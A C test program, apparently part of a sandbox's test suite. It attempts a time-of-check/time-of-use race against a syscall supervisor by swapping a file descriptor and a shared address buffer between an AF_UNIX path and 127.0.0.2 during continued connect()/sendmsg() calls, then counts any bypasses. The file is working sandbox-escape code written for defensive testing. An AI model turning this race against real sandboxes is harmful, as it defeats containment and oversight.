/* SPDX-License-Identifier: MIT */
/*
 * sc_swap.c - attack on the one place the supervisor answers CONTINUE:
 * AF_UNIX calls. One thread calls connect()/sendmsg() on fd X with an
 * AF_UNIX address; another keeps swapping X between an AF_UNIX socket and
 * an inet socket (dup2) and the shared address buffer between the unix path
 * and 127.0.0.2:PORT. If the kernel resumes a continued call after the
 * swap, the call goes to 127.0.0.2 unvetted. The attack runs in a child
 * process (the supervisor kills a process it catches swapping); a server in
 * the parent counts arrivals at 127.0.0.2 (getsockname / IP_PKTINFO).
 * Static build.
 *
 *   sc_swap tcp PORT N    connect() race (Landlock's TCP rule should stop it; PORT 0 = any)
 *   sc_swap udp PORT N    sendmsg() race on datagram sockets
 *
 * Prints "attempts<=N attacker=killed|finished bypass=B", exits 0 when B == 0.
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define XFD 100

static union {
	struct sockaddr_un un;
	struct sockaddr_in in;
	struct sockaddr_storage ss;
} shared;
static struct sockaddr_un upath;
static struct sockaddr_in ibad;
static atomic_int done;
static atomic_long bad;
static int udp, lfd;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&done)) {
		int i = socket(AF_INET, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);
		int u = socket(AF_UNIX, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);

		memcpy(&shared, &upath, sizeof(upath));
		dup2(u, XFD);
		memset(&shared, 0, sizeof(shared));
		memcpy(&shared, &ibad, sizeof(ibad));
		dup2(i, XFD);
		close(i);
		close(u);
	}
	return NULL;
}

static void *server(void *arg)
{
	char buf[64], cbuf[128];

	(void)arg;
	for (;;) {
		if (udp) {
			struct iovec iv = { buf, sizeof(buf) };
			struct msghdr m = { .msg_iov = &iv, .msg_iovlen = 1, .msg_control = cbuf,
					    .msg_controllen = sizeof(cbuf) };
			struct cmsghdr *c;

			if (recvmsg(lfd, &m, 0) < 0)
				continue;
			for (c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c)) {
				struct in_pktinfo pi;

				memcpy(&pi, CMSG_DATA(c), sizeof(pi));
				if (pi.ipi_addr.s_addr == htonl(0x7f000002))
					atomic_fetch_add(&bad, 1);
			}
		} else {
			struct sockaddr_in l;
			socklen_t ll = sizeof(l);
			int c = accept(lfd, NULL, NULL);

			if (c < 0)
				continue;
			if (getsockname(c, (struct sockaddr *)&l, &ll) == 0 &&
			    l.sin_addr.s_addr == htonl(0x7f000002))
				atomic_fetch_add(&bad, 1);
			close(c);
		}
	}
	return NULL;
}

/* The attacking process: AF_UNIX peer, swapper thread, trapped-call loop. */
static int attack(long n)
{
	pthread_t b;
	long i;
	int us;

	us = socket(AF_UNIX, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);
	unlink(upath.sun_path);
	if (bind(us, (struct sockaddr *)&upath, sizeof(upath)) < 0 || (!udp && listen(us, 4096) < 0))
		return 2;
	pthread_create(&b, NULL, swapper, NULL);
	for (i = 0; i < n; i++) {
		long r;

		if (udp) {
			struct iovec iv = { "x", 1 };
			struct msghdr m = { .msg_name = &shared, .msg_namelen = sizeof(struct sockaddr_un),
					    .msg_iov = &iv, .msg_iovlen = 1 };
			char buf[8];

			r = sendmsg(XFD, &m, MSG_DONTWAIT);
			while (recv(us, buf, sizeof(buf), MSG_DONTWAIT) > 0)
				;
		} else {
			r = connect(XFD, (struct sockaddr *)&shared, sizeof(struct sockaddr_un));
			if (r >= 0) {
				/* drain the unix listener so its backlog never fills */
				int c = accept4(us, NULL, NULL, SOCK_NONBLOCK);

				if (c >= 0)
					close(c);
			}
		}
	}
	atomic_store(&done, 1);
	pthread_join(b, NULL);
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in any = { .sin_family = AF_INET };
	long n;
	pthread_t a;
	int one = 1, st = 0;
	pid_t pid;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 4)
		return 2;
	udp = !strcmp(argv[1], "udp");
	n = strtol(argv[3], NULL, 10);
	any.sin_port = htons((uint16_t)strtol(argv[2], NULL, 10));
	if (!udp) /* only loopback listeners: the TCP server listens on the denied address */
		any.sin_addr.s_addr = htonl(0x7f000002);
	ibad = any;
	ibad.sin_addr.s_addr = htonl(0x7f000002);
	lfd = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(lfd, IPPROTO_IP, IP_PKTINFO, &one, sizeof(one));
	if (bind(lfd, (struct sockaddr *)&any, sizeof(any)) < 0 || (!udp && listen(lfd, 4096) < 0)) {
		perror("sc_swap: bind/listen");
		return 2;
	}
	{
		socklen_t l = sizeof(any); /* PORT 0: the kernel picked one */

		getsockname(lfd, (struct sockaddr *)&any, &l);
		ibad.sin_port = any.sin_port;
	}
	upath.sun_family = AF_UNIX;
	snprintf(upath.sun_path, sizeof(upath.sun_path), "/tmp/sc_swap.%d", (int)getpid());
	/*
	 * The attack runs in a child: the supervisor kills a process caught
	 * swapping, and the counting server must survive that.
	 */
	pid = fork();
	if (pid == 0)
		_exit(attack(n));
	pthread_create(&a, NULL, server, NULL);
	waitpid(pid, &st, 0);
	usleep(200000); /* let the last arrivals be counted */
	unlink(upath.sun_path);
	printf("attempts<=%ld attacker=%s bypass=%ld\n", n,
	       WIFSIGNALED(st) ? "killed" : "finished", atomic_load(&bad));
	return atomic_load(&bad) ? 1 : 0;
}
